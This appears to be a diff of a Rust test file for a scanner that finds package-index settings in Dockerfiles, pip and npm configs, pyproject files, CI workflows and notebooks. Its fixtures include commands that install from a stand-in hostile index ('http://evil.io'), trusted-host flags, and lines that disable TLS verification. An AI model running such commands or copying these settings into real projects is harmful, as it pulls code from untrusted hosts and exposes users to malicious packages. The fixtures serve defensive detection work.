@@ -163,11 +163,11 @@ fn constraints_files_and_further_indexes_count() {
     let fact = batch
         .facts
         .iter()
-        .find(|f| f.kind == FactKind::UnpinnedDependency)
+        .find(|f| f.kind == FactKind::PackageIndex)
         .unwrap();
     assert_eq!(
-        (fact.asset.as_str(), fact.text("index_url")),
-        ("package:pkg:pypi/vllm@*", Some("pkgs.acme.io"))
+        (fact.asset.as_str(), fact.text("host"), fact.text("role")),
+        ("repository:r", Some("pkgs.acme.io"), Some("extra"))
     );
     assert!(!format!("{:?}{:?}", batch.assets, batch.facts).contains("hunter2"));
 }
@@ -289,4 +289,69 @@ fn hostile_files_end_as_gaps_or_as_nothing() {
     ] {
         let _ = read(&[(path, &text)]);
     }
+}
+
+#[test]
+fn indexes_are_read_wherever_they_are_set() {
+    let notebook = |cell: &str| {
+        format!(
+            "{{\"cells\":[{{\"cell_type\":\"code\",\"source\":[\"{cell}\"]}},{{\"cell_type\":\"markdown\",\"source\":[\"pip install -i http://evil.io x\"]}}]}}"
+        )
+    };
+    for (path, text, expected) in [
+        ("Dockerfile", "FROM a\nRUN pip install --index-url http://evil.io/simple \\\n  # why\n --extra-index-url http://x.io --trusted-host x.io openai\n".to_owned(),
+            vec![("main", "evil.io", 2), ("extra", "x.io", 4), ("unchecked-host", "x.io", 4)]),
+        ("Dockerfile", "FROM a\nENV PIP_EXTRA_INDEX_URL=https://x.io/simple PIP_TRUSTED_HOST=x.io\nENV PIP_INDEX_URL https://y.io\n".to_owned(),
+            vec![("extra", "x.io", 2), ("unchecked-host", "x.io", 2), ("main", "y.io", 3)]),
+        ("Dockerfile", "FROM a\nRUN [\"pip\", \"install\", \"-i\", \"http://evil.io\", \"x\"]\n".to_owned(), vec![("main", "evil.io", 2)]),
+        ("Dockerfile", "FROM a\nRUN npm ci --registry=http://npm.io && uv pip install --index https://x.io y\n".to_owned(),
+            vec![("main", "npm.io", 2), ("extra", "x.io", 2)]),
+        ("pip.conf", "[global]\nindex-url = https://y.io/simple\nextra-index-url =\n    https://pypi.org/simple\n    http://x.io\n".to_owned(),
+            vec![("main", "y.io", 2), ("extra", "pypi.org", 4), ("extra", "x.io", 5)]),
+        ("requirements.txt", "-i http://y.io\n-f https://x.io/links.html\nopenai\n".to_owned(), vec![("main", "y.io", 1), ("links", "x.io", 2)]),
+        (".env", "export PIP_EXTRA_INDEX_URL=\"https://u:p@x.io/simple\"\n".to_owned(), vec![("extra", "x.io", 1)]),
+        (".github/workflows/ci.yml", "env:\n  PIP_EXTRA_INDEX_URL: ${{ vars.INDEX }}\nsteps:\n  - run: pip config set global.index-url http://y.io\n".to_owned(),
+            vec![("extra", "?", 2), ("main", "y.io", 4)]),
+        ("k8s.yaml", "env:\n  - name: PIP_EXTRA_INDEX_URL\n    value: https://x.io\n".to_owned(), vec![("extra", "x.io", 2)]),
+        ("pyproject.toml", "[[tool.uv.index]]\nurl = \"https://x.io\"\n[[tool.uv.index]]\nurl = \"https://y.io\"\nexplicit = true\n[[tool.poetry.source]]\nurl = \"https://z.io\"\npriority = \"supplemental\"\n".to_owned(),
+            vec![("extra", "x.io", 2), ("scope", "y.io", 4), ("extra", "z.io", 7)]),
+        ("Pipfile", "[[source]]\nurl = \"https://y.io\"\nverify_ssl = false\n".to_owned(), vec![("main", "y.io", 2)]),
+        (".npmrc", "@acme:registry=http://npm.io/\nstrict-ssl=false\n".to_owned(), vec![("scope", "npm.io", 1), ("unchecked-host", "registry.npmjs.org", 2)]),
+        (".yarnrc.yml", "npmRegistryServer: \"http://npm.io\"\n".to_owned(), vec![("main", "npm.io", 1)]),
+        ("a.ipynb", notebook("%pip install --extra-index-url https://x.io/simple openai\\n"), vec![("extra", "x.io", 1)]),
+        // What is the default, does not leave the machine, is a comment, or is no index.
+        ("Dockerfile", "FROM a\nRUN pip install --index-url https://pypi.org/simple --find-links ./wheels x # --extra-index-url http://x.io\n# RUN pip install -i http://x.io y\n".to_owned(), vec![]),
+        ("Dockerfile", "FROM a\nRUN pip install -i http://localhost:3141/root x && curl -f http://x.io -i http://y.io && tar -f http://z.io\n".to_owned(), vec![]),
+        ("run.sh", "docker build -f http://x.io . --registry http://y.io\necho $PIP_INDEX_URL\nARG PIP_INDEX_URL\n".to_owned(), vec![]),
+        (".npmrc", "registry=https://registry.npmjs.org/\n# registry=http://x.io\n//npm.io/:_authToken=${T}\n".to_owned(), vec![]),
+    ] {
+        let batch = read(&[(path, &text)]);
+        let seen: Vec<_> = batch
+            .facts
+            .iter()
+            .filter(|f| f.kind == FactKind::PackageIndex)
+            .map(|f| {
+                let line = f.location.as_ref().and_then(|l| l.line).unwrap_or_default();
+                (f.text("role").unwrap(), f.text("host").unwrap_or("?"), line)
+            })
+            .collect();
+        assert_eq!(seen, expected, "{path}: {text}");
+    }
+    let wheels = read(&[(
+        "requirements.txt",
+        "--index-url https://download.pytorch.org/whl/cpu\ntorch\n",
+    )]);
+    let fact = wheels
+        .facts
+        .iter()
+        .find(|f| f.kind == FactKind::PackageIndex)
+        .unwrap();
+    assert_eq!(
+        (
+            fact.text("role"),
+            &fact.properties["tls"],
+            &fact.properties["verified"]
+        ),
+        (Some("main"), &Value::Bool(true), &Value::Bool(true))
+    );
 }
